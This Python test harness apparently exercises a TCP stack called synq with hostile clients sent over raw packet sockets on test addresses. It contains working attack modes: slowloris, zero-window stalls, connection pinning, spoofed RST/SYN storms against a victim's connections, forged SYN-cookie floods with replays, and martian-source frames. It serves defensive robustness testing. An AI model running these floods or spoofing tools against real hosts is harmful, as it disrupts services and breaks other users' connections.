#!/usr/bin/env python3
"""Hostile clients for the adversarial end-to-end tests; run in the client namespace.

  attack.py IFACE MODE [options]       (see --help of each mode)

Frames are built here and sent on an AF_PACKET socket; replies are read from the same
socket. The attacker's TCP connections come from addresses the kernel of the namespace
does not own (198.18.0.64 and up by default), with the veth's own MAC as source: the
kernel receives synq's replies, sees they are for no address of its own (forwarding
is off) and drops them silently, so no RST of the kernel ends the attacker's
handshakes, and no nftables rule is needed. Spoofed segments of the storms claim the
real client's 4-tuples, learnt by watching the wire (an on-path observer that does not
know the sequence numbers synq will accept).

Modes:
  pin       C connections, each a real handshake, then N in-order 1-byte segments
            (hold: raw bytes; echo: never ACKs what comes back; http: a head that
            never ends)
  slowloris C connections from one address, each sends an unfinished request head
  zerowin   C connections that advertise a zero window and never read: echo (send
            data), http (pipeline requests)
  storm     RST, SYN and ACK segments claiming the real client's connections to PORT,
            with sequence numbers in the window but never the exact one and ACK
            numbers outside the acceptable range, for SECONDS
  cookie    N final ACKs with a request in them, from random sources, no handshake
            (forged cookies); then R replays of a real cookie handshake's final ACK
  badsrc    SYNs, pings, RSTs from broadcast/multicast source MACs and from invalid
            IPv4/IPv6 source addresses; counts every frame synq sends in reply
Each prints one JSON object. Every run is bounded (--seconds, counts).
"""
import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
SYN, ACK, FIN, RST, PSH = 0x02, 0x10, 0x01, 0x04, 0x08
SYNQ_MAC = "02:53:51:00:00:01"
SYNQ_V4, SYNQ_V6 = "198.18.0.1", "2001:2::1"
PACKET_OUTGOING = 4


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def v6(addr):
    return ":" in addr


def tcp_opts(mss=1460, wscale=None, ts=None, sack=False):
    o = struct.pack("!BBH", 2, 4, mss) if mss else b""
    if sack:
        o += b"\x04\x02"
    if ts is not None:
        o += b"\x01\x01" + struct.pack("!BBII", 8, 10, ts[0], ts[1])
    if wscale is not None:
        o += b"\x01" + struct.pack("!BBB", 3, 3, wscale)
    while len(o) % 4:
        o += b"\x01"
    return o


def build(smac, dmac, src, dst, sport, dport, seq, ack, flags, win=65535, payload=b"",
          opts=b"", proto=6, raw_l4=None):
    """An Ethernet frame: IPv4 or IPv6 (by the address), TCP unless raw_l4 is given."""
    if raw_l4 is None:
        off = (20 + len(opts)) // 4
        l4 = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                         off << 4, flags, win, 0, 0) + opts + payload
    else:
        l4 = raw_l4
    if v6(src):
        s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
        pseudo = s + d + struct.pack("!IxxxB", len(l4), proto)
        c = csum(pseudo + l4)
        l4 = l4[:16] + struct.pack("!H", c) + l4[18:] if proto == 6 else \
            l4[:2] + struct.pack("!H", c) + l4[4:]
        ip = struct.pack("!IHBB", 6 << 28, len(l4), proto, 64) + s + d
        et = 0x86DD
    else:
        s, d = socket.inet_aton(src), socket.inet_aton(dst)
        if proto == 6:
            c = csum(s + d + struct.pack("!xBH", proto, len(l4)) + l4)
            l4 = l4[:16] + struct.pack("!H", c) + l4[18:]
        else:  # ICMP: no pseudo header
            l4 = l4[:2] + struct.pack("!H", csum(l4)) + l4[4:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), random.getrandbits(16), 0x4000,
                         64, proto, 0, s, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        et = 0x0800
    return mac_bytes(dmac) + mac_bytes(smac) + struct.pack("!H", et) + ip + l4


def icmp_echo(src, ident, seqno):
    if v6(src):
        return struct.pack("!BBHHH", 128, 0, 0, ident, seqno) + b"synq-adv", 58
    return struct.pack("!BBHHH", 8, 0, 0, ident, seqno) + b"synq-adv", 1


def parse(frame):
    """(smac, dmac, src, dst, proto, l4 bytes) or None."""
    if len(frame) < 14:
        return None
    dmac, smac, et = frame[0:6], frame[6:12], struct.unpack("!H", frame[12:14])[0]
    if et == 0x0800 and len(frame) >= 34:
        ihl = (frame[14] & 15) * 4
        tot = struct.unpack("!H", frame[16:18])[0]
        return (smac, dmac, socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34]),
                frame[23], frame[14 + ihl:14 + tot])
    if et == 0x86DD and len(frame) >= 54:
        plen = struct.unpack("!H", frame[18:20])[0]
        return (smac, dmac, socket.inet_ntop(socket.AF_INET6, frame[22:38]),
                socket.inet_ntop(socket.AF_INET6, frame[38:54]), frame[20], frame[54:54 + plen])
    return (smac, dmac, None, None, et, b"")


def tcp_fields(l4):
    sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", l4[:16])
    return sport, dport, seq, ack, flags, win, l4[(off >> 4) * 4:]


class Wire:
    def __init__(self, iface):
        self.iface = iface
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((iface, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        self.mac = open("/sys/class/net/%s/address" % iface).read().strip()
        self.sent = 0

    def send(self, frame):
        for _ in range(200):
            try:
                self.sock.send(frame)
                self.sent += 1
                return
            except OSError:  # ENOBUFS: the veth queue is full for a moment
                time.sleep(0.0005)

    def recv(self, timeout):
        """Frames (data, pkttype) until timeout (s) passes with nothing more."""
        out = []
        end = time.monotonic() + timeout
        while True:
            left = end - time.monotonic()
            if left <= 0:
                return out
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return out
            data, addr = self.sock.recvfrom(65535)
            out.append((data, addr[2]))
            if len(out) > 4096:
                return out

    def drain(self):
        out = []
        while True:
            r, _, _ = select.select([self.sock], [], [], 0)
            if not r:
                return out
            data, addr = self.sock.recvfrom(65535)
            out.append((data, addr[2]))


class Conn:
    """One attacker connection: a handshake made by hand."""

    def __init__(self, w, src, dst, dport, sport=None, ts=True, wscale=7):
        self.w, self.src, self.dst, self.dport = w, src, dst, dport
        self.sport = sport or random.randint(20000, 60000)
        self.iss = random.getrandbits(32)
        self.ts = ts
        self.wscale = wscale
        self.snd_nxt = self.iss + 1
        self.rcv_nxt = None
        self.tsecr = 0
        self.rsts = 0
        self.rcvd = 0
        self.rcv_end = None  # the end of the highest data synq sent
        self.win_seen = None
        self.acked = self.iss + 1  # the highest ACK synq sent
        self.progress = time.monotonic()

    def frame(self, flags, payload=b"", seq=None, ack=None, win=65535, opts=None):
        if opts is None:
            opts = tcp_opts(None, None, (int(time.monotonic() * 1000) & 0xFFFFFFFF, self.tsecr)) \
                if self.ts else b""
        return build(self.w.mac, SYNQ_MAC, self.src, self.dst, self.sport, self.dport,
                     self.snd_nxt if seq is None else seq,
                     (self.rcv_nxt or 0) if ack is None else ack, flags, win, payload, opts)

    def syn(self):
        opts = tcp_opts(1460, self.wscale, (1, 0) if self.ts else None, sack=True)
        self.w.send(build(self.w.mac, SYNQ_MAC, self.src, self.dst, self.sport, self.dport,
                          self.iss, 0, SYN, 65535, b"", opts))

    def take(self, sport, seq, ack, flags, win, payload, l4):
        if flags & RST:
            self.rsts += 1
            return
        if flags & SYN and flags & ACK and ack == self.iss + 1:
            self.rcv_nxt = (seq + 1) & 0xFFFFFFFF
            self.tsecr = ts_of(l4) or 0
        self.win_seen = win
        self.rcvd += len(payload)
        end = (seq + len(payload)) & 0xFFFFFFFF
        if payload and (self.rcv_end is None or 0 < ((end - self.rcv_end) & 0xFFFFFFFF) < (1 << 30)):
            self.rcv_end = end
        if flags & ACK and self.rcv_nxt is not None and \
                0 < ((ack - self.acked) & 0xFFFFFFFF) < (1 << 30):
            self.acked = ack
            self.progress = time.monotonic()

    def ack(self, win=65535):
        self.w.send(self.frame(ACK, win=win))

    def send(self, data, win=65535, ack=None):
        self.w.send(self.frame(ACK | PSH, data, win=win, ack=ack))
        self.snd_nxt = (self.snd_nxt + len(data)) & 0xFFFFFFFF

    def rst(self):
        self.w.send(self.frame(RST | ACK, opts=b""))


def ts_of(l4):
    off = (l4[12] >> 4) * 4
    o, i = l4[20:off], 0
    while i < len(o):
        k = o[i]
        if k == 0:
            break
        if k == 1:
            i += 1
            continue
        if i + 1 >= len(o) or o[i + 1] < 2:
            break
        if k == 8 and o[i + 1] == 10:
            return struct.unpack("!I", o[i + 2:i + 6])[0]
        i += o[i + 1]
    return None


class Table:
    """Demultiplexes synq's replies to the attacker's connections; counts the rest."""

    def __init__(self, w):
        self.w = w
        self.conns = {}
        self.other = 0

    def add(self, c):
        self.conns[(c.src, c.sport)] = c

    def pump(self, timeout=0.0):
        n = 0
        for data, ptype in (self.w.recv(timeout) if timeout else self.w.drain()):
            if ptype == PACKET_OUTGOING:
                continue
            p = parse(data)
            if p is None or p[4] != 6 or len(p[5]) < 20:
                continue
            sport, dport, seq, ack, flags, win, payload = tcp_fields(p[5])
            c = self.conns.get((p[3], dport))
            if c is None:
                self.other += 1
                continue
            c.take(sport, seq, ack, flags, win, payload, p[5])
            n += 1
        return n


def handshake_all(w, t, conns, timeout=5.0):
    """SYN every connection (in bursts), complete those that got a SYN-ACK."""
    for i, c in enumerate(conns):
        t.add(c)
        c.syn()
        if i % 64 == 63:
            t.pump(0.002)
    end = time.monotonic() + timeout
    again = time.monotonic() + 1.0
    while time.monotonic() < end and any(c.rcv_nxt is None and not c.rsts for c in conns):
        t.pump(0.05)
        if time.monotonic() > again:  # the SYN or its SYN-ACK was lost: retransmit
            again += 1.0
            for c in conns:
                if c.rcv_nxt is None and not c.rsts:
                    c.syn()
    t.pump(0.05)
    up = [c for c in conns if c.rcv_nxt is not None and not c.rsts]
    for c in up:
        c.ack()
    return up


def sources(base, n):
    a = struct.unpack("!I", socket.inet_aton(base))[0]
    return [socket.inet_ntoa(struct.pack("!I", a + i)) for i in range(n)]


def result(**kw):
    print(json.dumps(kw, sort_keys=True))
    sys.stdout.flush()


def leave(w, t, up, how):
    """RST each connection at exactly the sequence number synq expects (RFC 5961: any
    other in the window draws a challenge ACK, whose ACK number tells the right one:
    answer it as a real stack does, twice at most)."""
    t.pump(0.1)
    rsts = sum(c.rsts for c in up)
    if how != "rst":
        return rsts
    todo = list(up)
    for _ in range(3):
        sent = {}
        for i, c in enumerate(todo):
            c.snd_nxt = c.acked
            sent[c] = c.acked
            c.rst()
            # paced: thousands at once overflow synq's af_packet ring, and a RST lost
            # there leaves its connection behind until the idle timeout
            if i % 100 == 99:
                t.pump(0.01)
        t.pump(0.3)
        todo = [c for c in todo if c.acked != sent[c]]
        if not todo:
            break
    return rsts


def mode_pin(a, w):
    t = Table(w)
    up = handshake_all(w, t, [Conn(w, src, a.dst, a.port) for src in sources(a.src, a.conns)])
    if not up:
        return result(mode="pin", error="no handshake completed")
    # In order, as synq acknowledges them: at most 64 segments beyond its ACK (whatever
    # window it offers: what it cannot take is dropped and counted); after 0.3 s with
    # no progress, go back to its ACK (a lost frame would make every later one out of
    # order). The ACK field stays on synq's SYN: echo never acknowledges what returns.
    # http: a head that never ends, one byte a segment too.
    head = b"GET / HTTP/1.1\r\nX-Pin: " if a.app == "http" else b""
    stream = head + b"a" * a.segs
    sent, t0 = 0, time.monotonic()
    start = {c: c.snd_nxt for c in up}
    live = list(up)
    while live and time.monotonic() - t0 < a.seconds:
        for c in live:
            off = (c.snd_nxt - start[c]) & 0xFFFFFFFF
            while ((c.snd_nxt - c.acked) & 0xFFFFFFFF) < 64 and off < len(stream):
                c.send(stream[off:off + 1], win=a.win, ack=c.rcv_nxt)
                sent += 1
                off += 1
            if time.monotonic() - c.progress > 0.3:
                c.snd_nxt = c.acked
                c.progress = time.monotonic()
        t.pump(0.002)
        live = [c for c in live if not c.rsts and ((c.acked - start[c]) & 0xFFFFFFFF) < len(stream)]
    t.pump(0.5)
    taken = sum((c.acked - start[c]) & 0xFFFFFFFF for c in up)
    rsts_before_leave = sum(c.rsts for c in up)
    hold = time.monotonic()
    while time.monotonic() - hold < a.hold:
        t.pump(0.1)
    rsts = leave(w, t, up, a.leave)
    result(mode="pin", app=a.app, conns=len(up), segments=sent, frames=w.sent, taken=taken,
           rsts_during=rsts_before_leave, rsts=rsts, win_last=[c.win_seen for c in up][:4],
           echoed=sum(c.rcvd for c in up), seconds=round(time.monotonic() - t0, 2))


def mode_slowloris(a, w):
    t = Table(w)
    conns = []
    for i in range(a.conns):
        c = Conn(w, a.src, a.dst, a.port, sport=10000 + i)
        conns.append(c)
    up = []
    empty = 0
    for k in range(0, len(conns), 256):
        got = handshake_all(w, t, conns[k:k + 256], timeout=2.0)
        for c in got:
            c.send(b"GET / HTTP/1.1\r\nHost: synq\r\nX-Slow: ")
        up += got
        t.pump()
        empty = empty + 1 if not got else 0
        if empty == 2:  # synq answers this host no more: stop asking
            break
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.hold:
        t.pump(0.2)
        if a.trickle:
            for c in up:
                if not c.rsts:
                    c.send(b"a")
    rsts_during = sum(1 for c in up if c.rsts)
    leave(w, t, up, a.leave)
    result(mode="slowloris", tried=a.conns, established=len(up), reset_by_synq=rsts_during,
           refused=a.conns - len(up), frames=w.sent)


def mode_zerowin(a, w):
    t = Table(w)
    up = handshake_all(w, t, [Conn(w, src, a.dst, a.port) for src in sources(a.src, a.conns)])
    if not up:
        return result(mode="zerowin", error="no handshake completed")
    if a.app == "http":
        chunk = b"GET / HTTP/1.1\r\nHost: synq\r\n\r\n" * 40
    else:
        chunk = os.urandom(1000)
    t0 = time.monotonic()
    sent = 0
    while time.monotonic() - t0 < a.seconds and sent < a.bytes:
        for c in up:
            if not c.rsts:
                c.send(chunk, win=0, ack=c.rcv_nxt)
        sent += len(chunk)
        t.pump(0.01)
    hold = time.monotonic()
    while time.monotonic() - hold < a.hold:
        t.pump(0.2)
        for c in up:  # answer persist probes with a zero window, ack nothing new
            c.ack(win=0)
    rsts_during = sum(1 for c in up if c.rsts)
    leave(w, t, up, a.leave)
    result(mode="zerowin", app=a.app, conns=len(up), bytes_each=sent, reset_by_synq=rsts_during,
           received=sum(c.rcvd for c in up), frames=w.sent)


def mode_storm(a, w):
    """Spoof the real client's connections to PORT, never with an acceptable number."""
    flows = {}  # (client addr, client port, synq addr) -> [client snd_nxt, client ack (synq's snd_una)]
    t0 = time.monotonic()
    kinds = {"rst": 0, "syn": 0, "ack": 0, "synack": 0}
    replies = 0
    while time.monotonic() - t0 < a.seconds:
        for data, ptype in w.drain():
            p = parse(data)
            if p is None or p[4] != 6 or len(p[5]) < 20:
                continue
            sport, dport, seq, ack, flags, win, payload = tcp_fields(p[5])
            if ptype == PACKET_OUTGOING and dport == a.port and p[2] in a.victims:
                key = (p[2], sport, p[3])
                ln = len(payload) + (1 if flags & (SYN | FIN) else 0)
                if flags & RST:
                    flows.pop(key, None)
                    continue
                flows[key] = [(seq + ln) & 0xFFFFFFFF, ack]
            elif ptype != PACKET_OUTGOING and sport == a.port:
                replies += 1
        if not flows:
            time.sleep(0.01)
            continue
        for (csrc, cport, sdst), (nxt, una) in list(flows.items()):
            for _ in range(a.burst):
                k = random.choice(("rst", "rst", "syn", "ack", "synack"))
                off = random.randint(2000, 30000)  # in synq's window; never what the client sends next
                seq = (nxt + off) & 0xFFFFFFFF
                if k == "rst":
                    f = build(w.mac, SYNQ_MAC, csrc, sdst, cport, a.port, seq, 0, RST)
                elif k == "syn":
                    f = build(w.mac, SYNQ_MAC, csrc, sdst, cport, a.port, seq, 0, SYN, 65535, b"",
                              tcp_opts(1460))
                elif k == "synack":
                    f = build(w.mac, SYNQ_MAC, csrc, sdst, cport, a.port, seq, una, SYN | ACK)
                else:  # win 0, ACK far outside [SND.UNA - MAX.SND.WND, SND.NXT]
                    bad = (una + random.randint(1 << 24, (1 << 32) - (1 << 24))) & 0xFFFFFFFF
                    f = build(w.mac, SYNQ_MAC, csrc, sdst, cport, a.port, seq, bad, ACK, 0)
                w.send(f)
                kinds[k] += 1
        time.sleep(a.gap)
    result(mode="storm", port=a.port, flows_seen=len(flows), sent=kinds, replies_seen=replies,
           frames=w.sent)


def mode_cookie(a, w):
    req = b"GET /forged HTTP/1.1\r\nHost: synq\r\n\r\n"
    t0 = time.monotonic()
    n = 0
    base = struct.unpack("!I", socket.inet_aton("198.18.0.128"))[0]
    while n < a.count and time.monotonic() - t0 < a.seconds:
        if a.pps and n > (time.monotonic() - t0) * a.pps:
            time.sleep(0.001)
            continue
        src = socket.inet_ntoa(struct.pack("!I", base + random.randint(0, 100)))
        w.send(build(w.mac, SYNQ_MAC, src, a.dst, random.randint(1024, 65535), a.port,
                     random.getrandbits(32), random.getrandbits(32), ACK | PSH, 502, req,
                     tcp_opts(None, None, (random.getrandbits(32), random.getrandbits(32)))
                     if n % 2 else b""))
        n += 1
        if n % 256 == 0:
            w.drain()
    # Replays: a real handshake (a cookie when the SYN table is full), a request, a RST;
    # then the same final ACK with the same request, a.replays times.
    t = Table(w)
    replayed = 0
    answered = 0
    lost = 0
    for i in range(a.replay_conns):
        c = Conn(w, a.src, a.dst, a.port, sport=30000 + i, ts=False)
        up = handshake_all(w, t, [c], timeout=2.0)
        if not up:
            continue
        final = c.frame(ACK | PSH, req)
        w.send(final)
        c.snd_nxt += len(req)
        end = time.monotonic() + 3.0
        while c.rcvd == 0 and time.monotonic() < end:
            t.pump(0.05)
        if c.rcvd == 0:
            # the handshake's last ACK and the request lost on the way (the flood fills
            # synq's ring on a loaded machine): synq has no connection, and a "replay"
            # would be the cookie's first delivery, answered rightly. Not a replay case.
            leave(w, t, [c], "rst")
            lost += 1
            continue
        # the answer acknowledged, as a client does: with nothing of synq's in flight, a
        # RST lost in a ring full of the flood leaves an idle connection that answers a
        # replay with a bare ACK, not with the answer's retransmission, which would look
        # like a replay answered
        if c.rcv_end is not None:
            c.rcv_nxt = c.rcv_end
            c.ack()
            c.ack()
        # an exact RST, as leave() makes it: if the request was lost on the way (a full
        # ring under a flood), synq's RCV.NXT is still the final ACK's and a RST after
        # the request draws a challenge ACK; the connection would stay, and the
        # "replay" would be its request's first delivery, answered rightly
        leave(w, t, [c], "rst")
        # and twice more, spaced: a loaded machine loses a burst of the flood's size in
        # synq's ring (a RST for a connection already gone is dropped, SynqTcpDropRst)
        for _ in range(2):
            c.rst()
            t.pump(0.05)
        t.pump(0.5)  # what was in flight before the RST
        first = c.rcvd
        for _ in range(a.replays):
            w.send(final)
            replayed += 1
        t.pump(0.5)
        answered += 1 if c.rcvd > first else 0
    result(mode="cookie", forged=n, replayed=replayed, replay_answered=answered,
           replay_first_answered=sum(1 for c in t.conns.values() if c.rcvd > 0),
           replay_first_lost=lost, frames=w.sent)


BAD_MACS = ["ff:ff:ff:ff:ff:ff", "01:00:5e:00:00:01", "33:33:00:00:00:01", "01:80:c2:00:00:00"]
# sources no host may have (as Linux's martian rules): unspecified, limited broadcast,
# loopback, multicast, synq's own (a land attack); v4-mapped in IPv6
BAD_V4 = ["0.0.0.0", "255.255.255.255", "127.0.0.1", "224.0.0.1", "198.18.0.1"]
BAD_V6 = ["::", "::1", "ff02::1", "2001:2::1", "::ffff:198.18.0.2"]


def mode_badsrc(a, w):
    """Frames that must get no answer; counts what synq sends back during the run."""
    cases = []
    for m in BAD_MACS:
        cases.append((m, a.src, SYNQ_V4))
        cases.append((m, a.src6, SYNQ_V6))
    for s in BAD_V4:
        cases.append((w.mac, s, SYNQ_V4))
    for s in BAD_V6:
        cases.append((w.mac, s, SYNQ_V6))
    w.drain()
    sent = 0
    t0 = time.monotonic()
    for r in range(a.rounds):
        for smac, src, dst in cases:
            for port in (80, 8000, 8080, 9):  # listeners, and a closed port (a RST would answer)
                w.send(build(smac, SYNQ_MAC, src, dst, 40000 + r, port, random.getrandbits(32), 0,
                             SYN, 65535, b"", tcp_opts(1460)))
                w.send(build(smac, SYNQ_MAC, src, dst, 40000 + r, port, random.getrandbits(32),
                             random.getrandbits(32), ACK, 65535))
                sent += 2
            l4, proto = icmp_echo(src, 0x5151, r)
            w.send(build(smac, SYNQ_MAC, src, dst, 0, 0, 0, 0, 0, proto=proto, raw_l4=l4))
            sent += 1
        if time.monotonic() - t0 > a.seconds:
            break
    replies = []
    end = time.monotonic() + 1.0
    bad_dst = set(mac_bytes(m) for m in BAD_MACS)
    while time.monotonic() < end:
        for data, ptype in w.recv(0.2):
            if ptype == PACKET_OUTGOING:
                continue
            p = parse(data)
            if p is None or p[0] != mac_bytes(SYNQ_MAC):
                continue
            bad = p[1] in bad_dst or p[3] in BAD_V4 or p[3] in BAD_V6
            if bad:
                replies.append("%s %s proto %s" % (":".join("%02x" % b for b in p[1]), p[3], p[4]))
    result(mode="badsrc", sent=sent, cases=len(cases), replies=len(replies), sample=replies[:8])


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("iface")
    ap.add_argument("mode", choices=["pin", "slowloris", "zerowin", "storm", "cookie", "badsrc"])
    ap.add_argument("--dst", default=SYNQ_V4)
    ap.add_argument("--src", default="198.18.0.64", help="first attacker address")
    ap.add_argument("--src6", default="2001:2::64")
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--app", default="hold", choices=["hold", "echo", "http"])
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--segs", type=int, default=5000)
    ap.add_argument("--win", type=int, default=65535)
    ap.add_argument("--bytes", type=int, default=1 << 20)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--hold", type=float, default=1.0, help="seconds to stay after the attack")
    ap.add_argument("--leave", default="rst", choices=["rst", "silent"])
    ap.add_argument("--trickle", action="store_true")
    ap.add_argument("--victims", default="198.18.0.2,2001:2::2",
                    help="storm: the client addresses whose connections it aims at")
    ap.add_argument("--burst", type=int, default=20)
    ap.add_argument("--gap", type=float, default=0.002)
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--pps", type=int, default=0, help="cookie: forged ACKs a second (0: as fast as it can)")
    ap.add_argument("--replay-conns", type=int, default=10)
    ap.add_argument("--replays", type=int, default=5)
    ap.add_argument("--rounds", type=int, default=50)
    ap.add_argument("--seed", type=int, default=None)
    a = ap.parse_args()
    a.victims = a.victims.split(",")
    random.seed(a.seed)
    w = Wire(a.iface)
    {"pin": mode_pin, "slowloris": mode_slowloris, "zerowin": mode_zerowin, "storm": mode_storm,
     "cookie": mode_cookie, "badsrc": mode_badsrc}[a.mode](a, w)


if __name__ == "__main__":
    main()
